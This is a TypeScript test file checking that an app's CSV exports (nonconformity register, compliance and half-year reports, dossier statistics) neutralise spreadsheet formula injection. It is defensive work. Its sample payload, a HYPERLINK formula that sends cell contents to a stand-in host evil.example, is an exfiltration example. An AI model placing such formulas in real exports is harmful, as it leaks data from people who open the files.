/**
 * Every CSV the app writes keeps text that a spreadsheet would run as a formula (= + - @,
 * tab, carriage return) as text: a leading apostrophe. Typed into an action or a
 * procedure name, `=HYPERLINK(…)` must not come out live.
 */
import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { neutraliseCell } from '../../server/lib/table-export.ts'
import { appContext, type AppContext } from '../helpers/app.ts'

const ctx = appContext()
const csv = suite('formula-safe CSV exports', ctx)

const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Click")'
const PERIOD = 'from=2019-11-21&to=2020-05-27'

async function cellsOf(c: AppContext, url: string): Promise<string[]> {
  const res = await (await c.as('manager')).get(url)
  assert.is(res.status, 200, `${url}: ${res.text.slice(0, 200)}`)
  assert.match(String(res.headers['content-type']), 'text/csv')
  return (parse(res.text.replace(/^\uFEFF/, '')) as string[][]).flat()
}

/** No cell may start a formula, except a plain number such as -2. */
function assertNoLiveFormula(cells: string[], where: string) {
  const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+([.,]\d+)?$/.test(cell))
  assert.equal(live, [], `${where}: cells that would run as formulas`)
}

csv('a formula typed as text comes out as text, numbers stay numbers', () => {
  assert.is(neutraliseCell(FORMULA), `'${FORMULA}`)
  for (const text of ['+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) assert.is(neutraliseCell(text), `'${text}`)
  assert.is(neutraliseCell(-2), -2)
  assert.is(neutraliseCell('Hồ sơ trễ hạn'), 'Hồ sơ trễ hạn')
  assert.is(neutraliseCell(null), '')
})

csv('the NC register keeps a typed title as text', async (c) => {
  await c.db.execute(sql`update nonconformities set title = ${FORMULA} where number = (select min(number) from nonconformities)`)
  const cells = await cellsOf(c, '/api/nonconformities/register?format=csv')
  assert.ok(cells.includes(`'${FORMULA}`), 'the title is there, as text')
  assertNoLiveFormula(cells, 'NC register')
})

csv('the compliance export of overdue actions keeps a typed formula as text', async (c) => {
  await c.db.execute(sql`update actions set description = ${FORMULA} where status = 'open'`)
  const cells = await cellsOf(c, `/api/reports/compliance/export?${PERIOD}&table=overdue-actions&format=csv&lang=en`)
  assert.ok(cells.includes(`'${FORMULA}`), 'the description is there, as text')
  assertNoLiveFormula(cells, 'overdue actions')
  for (const table of ['criteria', 'inspections', 'findings', 'monthly', 'documents-due']) {
    assertNoLiveFormula(await cellsOf(c, `/api/reports/compliance/export?${PERIOD}&table=${table}&format=csv`), table)
  }
})

csv('the dossier statistics and every table of the half-year report are formula-safe', async (c) => {
  await c.db.execute(sql`update procedures set field = ${'@SUM(1+1)'} where field = ${'Lao động'}`)
  const stats = await cellsOf(c, `/api/dossiers/stats/export?${PERIOD}&format=csv&groupBy=field`)
  assert.ok(stats.includes("'@SUM(1+1)"), 'the field name is there, as text')
  assertNoLiveFormula(stats, 'dossier statistics')
  let tables = 0
  for (let table = 1; ; table++) {
    const res = await (await c.as('manager')).get(`/api/reports/par?${PERIOD}&format=csv&table=${table}`)
    if (res.status === 400) break
    assertNoLiveFormula((parse(res.text.replace(/^\uFEFF/, '')) as string[][]).flat(), `half-year table ${table}`)
    tables++
  }
  assert.ok(tables >= 5, `the report's tables were checked (${tables})`)
})

ctx.use(csv)
csv.run()
